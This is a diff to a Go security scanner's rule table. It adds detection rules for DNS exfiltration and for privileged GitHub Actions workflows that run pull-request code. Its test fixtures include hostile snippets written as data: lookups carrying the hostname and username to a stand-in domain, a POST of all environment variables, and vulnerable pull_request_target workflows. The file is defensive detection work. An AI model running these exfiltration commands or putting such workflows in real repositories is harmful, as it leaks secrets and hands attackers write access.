@@ -71,6 +71,12 @@ var rules = []Rule{
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
 		}},
+	{"dns-exfiltration", KindCredential, High, "looks up a host name built from data (DNS exfiltration)",
+		"the name carries the machine's identity or secrets to whoever runs the domain's DNS, past any firewall that lets lookups through", []Case{
+			{"x.js", "const dns = require('dns')\nconst h = Buffer.from(os.hostname()).toString('hex')\ndns.resolve(`${h}.x.invalid-dns.com`, () => {})", 3, false},
+			{"x.sh", "nslookup $(whoami).$(hostname).x.invalid-dns.com", 0, false},
+			{"x.js", "const dns = require('dns')\ndns.lookup(host, cb)", 2, true},
+		}},
 	{"env-exfiltration", KindCredential, High, "dumps the environment (secrets included)", whySecrets, []Case{
 		{"x.sh", "printenv > /tmp/e", 0, false},
 		{"x.sh", "env | sort", 0, true},
@@ -129,6 +135,14 @@ var rules = []Rule{
 		"a privileged workflow that restores the cache then runs what the pull request put in it", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 9, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 6, true},
+		}},
+	{"gha-pr-code-run", KindRunner, High, "runs the pull request's code in a privileged workflow",
+		"after the checkout of the pull request's head, this step installs, builds or runs what the pull request wrote, with the repository's write token and secrets", []Case{
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 9, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,7 +1,9 @@\n on:\n-  pull_request:\n+  pull_request_target:\n jobs:\n   b:\n     steps:\n       - uses: actions/checkout@v4\n+        with:\n+          ref: ${{ github.event.pull_request.head.ref }}\n-      - run: make\n+      - run: make test\n", 9, false},
+			// Without a checkout of the head the base branch's own code runs.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test", 7, true},
+			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 9, true},
 		}},
 	{"gha-artifact-run", KindRunner, High, "runs a file from an artifact in a privileged workflow",
 		"the artifact was made by the pull request's own run; here it runs with the write token and secrets", []Case{
